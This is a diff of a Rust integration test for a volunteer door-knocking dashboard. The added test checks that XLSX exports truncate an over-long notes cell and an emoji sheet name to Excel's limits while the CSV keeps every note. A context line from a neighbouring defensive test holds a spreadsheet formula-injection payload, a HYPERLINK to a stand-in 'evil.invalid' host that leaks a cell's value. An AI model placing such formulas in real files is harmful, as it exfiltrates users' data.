@@ -261,3 +261,54 @@ async fn csv_exports_quote_formulas_and_keep_phone_numbers() {
         Some(&Data::String("=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")".into()))
     );
 }
+
+/// Knocks on one door add up past what an Excel cell holds (32,767 UTF-16 code units): ten
+/// long notes on one task. The workbook is still written, that cell cut and saying so, and
+/// the CSV holds every knock whole. A round titled in emoji past Excel's 31-unit sheet name
+/// (an emoji counts two) still names its sheet. Before: both were 503 "unavailable".
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_round_with_more_knocks_than_an_excel_cell_holds_still_exports() {
+    let dash = Dash::start().await;
+    let (compound, coordinator) = dash.small_compound().await;
+    let mut volunteer = dash.relay.phone(compound, Role::Volunteer, "李强").await;
+    let session = dash.login(&coordinator.token).await;
+    let created = session
+        .operate(
+            compound,
+            &serde_json::json!({
+                "op": "create_round", "title": "😀".repeat(31), "kind": "groceries", "date": "2026-11-23",
+                "selection": {"by": "building", "estate": "", "building": "1"},
+                "items": "蔬菜包", "priority": "normal"
+            }),
+        )
+        .await;
+    assert_eq!(created.status, StatusCode::OK, "{}", created.text());
+    let round = created.json()["created"][0].as_str().unwrap().parse().unwrap();
+    volunteer.sync(&dash.relay).await;
+    let task = volunteer.compound().open_tasks()[0].id;
+    let note = "楼道灯坏了😀".repeat(4000 / 6);
+    for _ in 0..10 {
+        let knock =
+            Operation::RecordAttempt { round, task, outcome: Outcome::NobodyHome, note: note.clone() };
+        volunteer.apply(&knock).unwrap();
+    }
+    let synced = volunteer.sync(&dash.relay).await;
+    assert!(synced.rejected.is_empty(), "{:?}", synced.rejected);
+
+    let path = format!("/dashboard/api/compounds/{compound}/export/rounds/{round}");
+    let book = download(&session, &format!("{path}.xlsx"), XLSX).await;
+    let mut book = Xlsx::new(Cursor::new(book)).unwrap();
+    let sheet = book.sheet_names()[0].clone();
+    assert_eq!(sheet, "😀".repeat(15), "the sheet name cut to 31 UTF-16 code units");
+    let range = book.worksheet_range(&sheet).unwrap();
+    let longest =
+        range.rows().flatten().map(|c| c.to_string()).max_by_key(|t| t.encode_utf16().count()).unwrap();
+    assert_eq!(longest.encode_utf16().count(), 32_767, "the knocks' cell is cut to Excel's limit");
+    assert!(
+        longest.contains("已截断") && longest.contains("CSV"),
+        "and says so: …{}",
+        &longest[longest.len() - 90..]
+    );
+    let csv = String::from_utf8(download(&session, &format!("{path}.csv"), "text/csv").await).unwrap();
+    assert_eq!(csv.matches("楼道灯坏了").count(), 10 * (4000 / 6), "the CSV holds every knock whole");
+}
